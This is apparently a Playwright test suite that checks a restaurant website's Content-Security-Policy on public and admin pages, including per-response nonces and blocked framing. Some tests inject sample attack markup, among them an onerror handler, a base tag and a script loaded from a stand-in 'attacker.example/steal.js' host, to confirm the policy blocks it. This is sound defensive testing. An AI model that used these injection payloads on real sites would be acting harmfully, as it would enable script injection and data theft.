import { expect, test, type Page } from "@playwright/test";
import { SITE_PAGES } from "./support/pages";
import { addAdmin, signInWithGoogle, uniqueEmail } from "./support/staff";

const PUBLIC_PAGES = [...SITE_PAGES, "/no-such-page"];
const ADMIN_PAGES = [
  "/admin",
  "/admin/menu",
  "/admin/opening-times",
  "/admin/hero-management",
  "/admin/gallery",
  "/admin/popups",
  "/admin/enquiries",
  "/admin/reservations",
  "/admin/reservations/print",
  "/admin/users",
  "/admin/activity",
  "/admin/settings",
  "/admin/outbox",
  "/admin/outbox/templates",
  "/admin/newsletter",
  "/admin/newsletter/new",
];

async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (e) =>
      seen.push(`${e.effectiveDirective} ${e.blockedURI || "inline"}`),
    );
  });
}

const violations = (page: Page) =>
  page.evaluate(() => [...(window as unknown as { __cspViolations: string[] }).__cspViolations]);

const scriptSources = (policy: string) => /(?:^|; )script-src ([^;]*)/.exec(policy)?.[1]?.split(" ") ?? [];
const nonceOf = (policy: string) => scriptSources(policy).find((s) => s.startsWith("'nonce-"));

/** Serves `path` with `before` replaced by `after` in its HTML, as an injection would leave it. */
async function injectInto(page: Page, path: string, before: string, after: string) {
  await page.route(`**${path}`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace(before, after) });
  });
}

async function waitUntilHydrated(page: Page) {
  await page.waitForLoadState("networkidle");
}

test.describe("Content-Security-Policy", () => {
  test("every public page and the sign-in page carry the policy and work under it", async ({ page }) => {
    test.setTimeout(test.info().timeout * 3);
    await watchViolations(page);
    for (const path of [...PUBLIC_PAGES, "/admin/auth"]) {
      const response = await page.goto(path);
      const policy = response?.headers()["content-security-policy"] ?? "";
      for (const directive of [
        "default-src 'self'",
        "object-src 'none'",
        "base-uri 'self'",
        "frame-ancestors 'self'",
        "script-src-attr 'none'",
      ]) {
        expect(policy, `${path}: ${directive}`).toContain(directive);
      }
      expect(policy, path).toMatch(/form-action 'self'/);
      expect(policy.includes("https://www.google.com"), path).toBe(path === "/contact" || path === "/events");
      await waitUntilHydrated(page);
      expect(await violations(page), path).toEqual([]);
    }
  });

  test("a public form validates under the policy (zod compiles nothing)", async ({ page }) => {
    await watchViolations(page);
    await page.goto("/contact");
    const form = page.getByRole("form", { name: "Send us a message" });
    await form.getByLabel("Email").fill("not an address");
    await form.getByLabel("Email").blur();
    await form.getByRole("button", { name: "Send Message" }).click();
    await expect(form.getByText("Please enter your name")).toBeVisible();
    expect(await violations(page)).toEqual([]);
  });

  test("the embedded map loads under the policy on /contact", async ({ page }) => {
    await watchViolations(page);
    await page.route("https://www.google.com/maps**", (route) =>
      route.fulfill({ contentType: "text/html", body: "<title>Map</title><p>Map</p>" }),
    );
    await page.goto("/contact");
    const region = page.getByRole("region", { name: "On Leicester Road, Wigston" });
    await region.getByRole("button", { name: "Show map" }).click();
    await expect(region.frameLocator("iframe").getByText("Map")).toBeVisible();
    expect(await violations(page)).toEqual([]);
  });

  test("every admin page works under the policy", async ({ page, request }) => {
    test.setTimeout(test.info().timeout * 3);
    const email = uniqueEmail("csp");
    await addAdmin(request, email);
    await watchViolations(page);
    await signInWithGoogle(page, email);
    const nonces = new Set<string>();
    for (const path of [...ADMIN_PAGES, ADMIN_PAGES[0]!]) {
      const response = await page.goto(path);
      const policy = response?.headers()["content-security-policy"] ?? "";
      expect(policy, path).toContain("default-src 'self'");
      expect(scriptSources(policy), path).not.toContain("'unsafe-inline'");
      nonces.add(nonceOf(policy) ?? "none");
      await waitUntilHydrated(page);
      expect(await violations(page), path).toEqual([]);
    }
    // A new nonce for every response, the same page loaded twice included.
    expect(nonces.size).toBe(ADMIN_PAGES.length + 1);
    expect(nonces.has("none")).toBe(false);
  });

  test("pages rendered per request let no injected inline script run", async ({ page, request }) => {
    const email = uniqueEmail("csp-nonce");
    await addAdmin(request, email);
    await signInWithGoogle(page, email);
    await watchViolations(page);
    await injectInto(page, "/admin/menu", "</body>", "<script>window.__ranInjectedScript = true</script></body>");
    await page.goto("/admin/menu");
    await expect(page.getByRole("heading", { level: 1, name: "Menu" })).toBeVisible();
    await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(/^script-src-elem inline/));
    expect(
      await page.evaluate(() => (window as unknown as { __ranInjectedScript?: boolean }).__ranInjectedScript),
    ).toBeUndefined();

    // A guest's pages without sign-in: a booking link and a no-JavaScript answer work under their nonce.
    await page.unroute("**/admin/menu");
    for (const path of ["/booking/not-a-booking", "/newsletter/unsubscribe"]) {
      const response = await page.goto(path);
      expect(nonceOf(response?.headers()["content-security-policy"] ?? ""), path).toBeTruthy();
      await waitUntilHydrated(page);
      expect(
        (await violations(page)).filter((v) => !v.startsWith("script-src-elem inline")),
        path,
      ).toEqual([]);
    }
  });

  test("injected markup cannot run code, load a foreign script or change where links go", async ({ page }) => {
    await watchViolations(page);
    await injectInto(
      page,
      "/menu",
      "<body",
      '<base href="https://attacker.example/"><img src="/no-such-image.png" onerror="window.__ranInjectedHandler = true" alt=""><script src="https://attacker.example/steal.js"></script><body',
    );
    await page.goto("/menu");
    await waitUntilHydrated(page);
    await page.evaluate(() => {
      const holder = document.createElement("div");
      holder.innerHTML = '<img src="/also-missing.png" onerror="window.__ranInjectedHandler = true" alt="">';
      document.body.append(holder);
    });
    await expect
      .poll(() => violations(page))
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(/^script-src-attr inline/),
          expect.stringMatching(/^script-src-elem https:\/\/attacker\.example/),
          expect.stringMatching(/^base-uri https:\/\/attacker\.example/),
        ]),
      );
    // One for the handler in the served page, one for the handler added after it: the second is reported
    // when its image has failed to load, which can be after the others.
    await expect
      .poll(async () => (await violations(page)).filter((v) => v.startsWith("script-src-attr")).length)
      .toBe(2);
    expect(
      await page.evaluate(() => (window as unknown as { __ranInjectedHandler?: boolean }).__ranInjectedHandler),
    ).toBeUndefined();
    expect(
      await page
        .getByRole("link", { name: /^Menu$/ })
        .first()
        .evaluate((a) => (a as HTMLAnchorElement).href),
    ).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/menu$/);
  });

  test("another site cannot frame the pages", async ({ page, baseURL }) => {
    await page.route("https://attacker.example/", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<title>Attacker</title><iframe title="victim" src="${baseURL}/reservations"></iframe>`,
      }),
    );
    await page.goto("https://attacker.example/");
    const framed = page.frames().find((f) => f !== page.mainFrame());
    await expect.poll(() => framed?.url() ?? "").toMatch(/reservations|chrome-error/);
    await expect(
      page.frameLocator('iframe[title="victim"]').getByRole("heading", { name: "Request a table" }),
    ).toHaveCount(0);
    expect(
      await page
        .frameLocator('iframe[title="victim"]')
        .locator("body")
        .innerText({ timeout: 5_000 })
        .catch(() => ""),
    ).not.toContain("Request a table");
  });
});
